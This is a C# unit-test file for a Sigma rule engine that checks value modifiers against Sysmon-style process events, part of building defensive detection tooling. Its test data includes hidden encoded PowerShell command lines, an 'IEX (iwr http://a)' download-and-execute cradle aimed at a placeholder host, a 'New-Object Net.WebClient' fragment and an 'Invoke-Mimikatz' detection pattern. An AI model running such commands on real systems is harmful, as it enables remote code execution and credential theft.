using ATTT.Monitor.Sigma.Tests.Support;

namespace ATTT.Monitor.Sigma.Tests.Matching;

/// <summary>Each value modifier of the Sigma modifiers appendix, on a real Sysmon-shaped event.</summary>
public class ModifierTests
{
    private static bool Match(string fieldLine, string commandLine, string image = @"C:\Windows\System32\cmd.exe") =>
        RuleText.Matches(RuleText.ProcessCreation($"    selection:\n        {fieldLine}\n    condition: selection"),
            TestEvents.Sysmon1(image, commandLine));

    [Theory]
    [InlineData("CommandLine: 'whoami /all'", "WHOAMI /ALL", true)]
    [InlineData("CommandLine: 'whoami'", "whoami /all", false)]
    [InlineData("CommandLine|contains: 'AMI /A'", "whoami /all", true)]
    [InlineData("CommandLine|startswith: 'who'", "whoami /all", true)]
    [InlineData("CommandLine|startswith: 'ami'", "whoami /all", false)]
    [InlineData("CommandLine|endswith: '/ALL'", "whoami /all", true)]
    [InlineData("CommandLine: 'who*all'", "whoami /all", true)]
    [InlineData("CommandLine: 'who?mi /all'", "whoami /all", true)]
    [InlineData("CommandLine: 'who?i /all'", "whoami /all", false)]
    [InlineData(@"CommandLine: 'a\*b'", "a*b", true)]
    [InlineData(@"CommandLine: 'a\*b'", "axxb", false)]
    [InlineData(@"CommandLine: 'a\\b'", @"a\b", true)]
    [InlineData(@"CommandLine: 'a\b'", @"a\b", true)]
    [InlineData("CommandLine|contains|all: ['-enc', 'hidden']", "powershell -w hidden -enc AAA", true)]
    [InlineData("CommandLine|contains|all: ['-enc', 'bypass']", "powershell -w hidden -enc AAA", false)]
    [InlineData("CommandLine|contains|cased: 'Hidden'", "powershell -w hidden", false)]
    [InlineData("CommandLine|contains|cased: 'hidden'", "powershell -w hidden", true)]
    [InlineData("CommandLine|windash|contains: ' -enc '", "powershell /enc AAA", true)]
    [InlineData("CommandLine|windash|contains: ' -enc '", "powershell \u2013enc AAA", true)]
    [InlineData("CommandLine|windash|contains: ' -enc '", "powershell enc AAA", false)]
    [InlineData("CommandLine|contains|windash: ' -enc '", "powershell \u2014enc AAA", true)]
    [InlineData("CommandLine|contains|windash: ' -enc '", "powershell \u2015enc AAA", true)]
    [InlineData("CommandLine|re: '^who.*ALL$'", "whoami /all", false)]
    [InlineData("CommandLine|re|i: '^who.*ALL$'", "whoami /all", true)]
    [InlineData("CommandLine|re: '(?i)^WHO'", "whoami /all", true)]
    [InlineData("CommandLine|re|s: 'a.b'", "a\nb", true)]
    [InlineData("CommandLine|re: 'a.b'", "a\nb", false)]
    [InlineData("CommandLine|re|m: '^b$'", "a\nb", true)]
    [InlineData("CommandLine|cidr: '10.0.0.0/8'", "10.1.2.3", true)]
    [InlineData("CommandLine|cidr: '10.0.0.0/8'", "11.1.2.3", false)]
    [InlineData("CommandLine|cidr: 'fd00::/8'", "fd12::1", true)]
    [InlineData("CommandLine|cidr: '0.0.0.0/0'", "5", false)]
    [InlineData("CommandLine|cidr: '0.0.0.0/0'", " 5 ", false)]
    [InlineData("CommandLine|cidr: '10.0.0.0/8'", " 10.1.2.3", false)]
    [InlineData("CommandLine|cidr: '127.0.0.0/8'", "0x7f.1", false)]
    [InlineData("CommandLine|cidr: '10.0.0.0/8'", "10.1.2.256", false)]
    [InlineData("CommandLine|cidr: '10.0.0.0/8'", "010.001.002.003", true)]
    [InlineData("CommandLine|cidr: '10.0.0.0/8'", "::ffff:10.1.2.3", true)]
    [InlineData("CommandLine|gt: 5", "6", true)]
    [InlineData("CommandLine|gt: 5", "5", false)]
    [InlineData("CommandLine|gte: 5", "5", true)]
    [InlineData("CommandLine|lt: 5", "4.5", true)]
    [InlineData("CommandLine|lte: 5", "x", false)]
    [InlineData("CommandLine|exists: true", "anything", true)]
    [InlineData("Missing|exists: false", "anything", true)]
    [InlineData("Missing|exists: true", "anything", false)]
    [InlineData("CommandLine|fieldref: Image", @"C:\Windows\System32\cmd.exe", true)]
    [InlineData("CommandLine|fieldref|contains: Image", @"x C:\Windows\System32\cmd.exe y", true)]
    [InlineData("CommandLine|fieldref: Image", "other", false)]
    [InlineData("Missing: null", "x", true)]
    [InlineData("CommandLine: null", "x", false)]
    [InlineData("CommandLine: ''", "", true)]
    [InlineData("CommandLine: ''", "x", false)]
    [InlineData("CommandLine: '*'", "x", true)]
    [InlineData("Missing: '*'", "x", false)]
    [InlineData("CommandLine: [a, b, 'whoami']", "WhoAmI", true)]
    public void Modifier_matches_as_specified(string fieldLine, string commandLine, bool expected) =>
        Assert.Equal(expected, Match(fieldLine, commandLine));

    [Fact]
    public void Base64_matches_the_plain_encoding()
    {
        var encoded = Convert.ToBase64String("http://evil"u8.ToArray());
        Assert.True(Match("CommandLine|base64|contains: 'http://evil'", "x " + encoded + " y"));
        Assert.False(Match("CommandLine|base64|contains: 'http://good'", "x " + encoded + " y"));
    }

    [Theory]
    [InlineData("", "IEX (New-Object Net.WebClient)")]
    [InlineData("a", "IEX (New-Object Net.WebClient)")]
    [InlineData("ab", "IEX (New-Object Net.WebClient)")]
    public void Base64offset_finds_the_value_at_any_byte_offset(string prefix, string payload)
    {
        var encoded = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(prefix + payload + " trailing"));
        Assert.True(Match("CommandLine|base64offset|contains: 'New-Object Net.WebClient'", "powershell -e " + encoded));
    }

    [Theory]
    [InlineData("utf16le")]
    [InlineData("wide")]
    public void Utf16le_base64offset_finds_encoded_powershell(string encoding)
    {
        var encoded = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes("xyz IEX (iwr http://a)"));
        Assert.True(Match($"CommandLine|{encoding}|base64offset|contains: 'IEX'", "powershell -enc " + encoded));
        Assert.False(Match($"CommandLine|{encoding}|base64offset|contains: 'Invoke-Mimikatz'", "powershell -enc " + encoded));
    }

    [Fact]
    public void Utf16be_and_utf16_encode_before_base64()
    {
        var be = Convert.ToBase64String(System.Text.Encoding.BigEndianUnicode.GetBytes("cmd"));
        Assert.True(Match("CommandLine|utf16be|base64: 'cmd'", be));
        var bom = Convert.ToBase64String([0xFF, 0xFE, .. System.Text.Encoding.Unicode.GetBytes("cmd")]);
        Assert.True(Match("CommandLine|utf16|base64: 'cmd'", bom));
    }

    [Fact]
    public void Expand_uses_configured_placeholders_and_skips_without_them()
    {
        var yaml = RuleText.ProcessCreation("    selection:\n        CommandLine|expand: '%admins%'\n    condition: selection");
        var without = SigmaRuleSet.LoadText(yaml);
        Assert.Contains(without.Diagnostics, d => d.Kind == SigmaDiagnosticKind.Unsupported && d.Reason.Contains("%admins%", StringComparison.Ordinal));

        var with = SigmaRuleSet.LoadText(yaml, new SigmaLoadOptions
        {
            Placeholders = new Dictionary<string, IReadOnlyList<string>> { ["admins"] = ["alice", "bob"] },
        });
        Assert.Empty(with.Diagnostics);
        Assert.Single(with.CreateEngine().Evaluate(TestEvents.Sysmon1("x", "BOB")));
        Assert.Empty(with.CreateEngine().Evaluate(TestEvents.Sysmon1("x", "carol")));
    }

    [Theory]
    [InlineData("CommandLine|nosuchmod: x", SigmaDiagnosticKind.Unsupported)]
    [InlineData("CommandLine|cidr: 'not-a-network'", SigmaDiagnosticKind.Invalid)]
    [InlineData("CommandLine|gt: abc", SigmaDiagnosticKind.Invalid)]
    [InlineData("CommandLine|exists: maybe", SigmaDiagnosticKind.Invalid)]
    [InlineData("CommandLine|utf16le: x", SigmaDiagnosticKind.Unsupported)]
    public void Bad_modifier_use_is_reported_with_a_reason(string fieldLine, SigmaDiagnosticKind kind)
    {
        var set = SigmaRuleSet.LoadText(RuleText.ProcessCreation($"    selection:\n        {fieldLine}\n    condition: selection"));
        var d = Assert.Single(set.Diagnostics);
        Assert.Equal(kind, d.Kind);
        Assert.False(string.IsNullOrWhiteSpace(d.Reason));
        Assert.Empty(set.Rules);
    }
}
